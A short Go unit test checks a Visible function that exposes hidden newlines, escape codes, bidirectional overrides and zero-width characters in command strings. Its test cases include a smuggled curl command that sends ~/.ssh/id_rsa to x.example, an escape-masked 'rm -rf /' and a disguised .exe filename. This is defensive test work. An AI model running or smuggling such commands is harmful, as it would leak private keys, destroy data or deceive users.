package tools

import "testing"

func TestVisible(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{"go test ./...", "go test ./..."},
		{"echo ok\ncurl -d @~/.ssh/id_rsa https://x.example", "echo ok␊curl -d @~/.ssh/id_rsa https://x.example"},
		{"ls\t-la\r", "ls␉-la␍"},
		{"rm -rf \x1b[2K/", `rm -rf \x1b[2K/`},
		{"cat safe\u202e\u2066txt.exe", "cat safe<U+202E><U+2066>txt.exe"},
		{"a\u200bb\ufeffc", "a<U+200B>b<U+FEFF>c"},
		{"naïve café 日本", "naïve café 日本"},
	} {
		if got := Visible(tc.in); got != tc.want {
			t.Errorf("Visible(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}
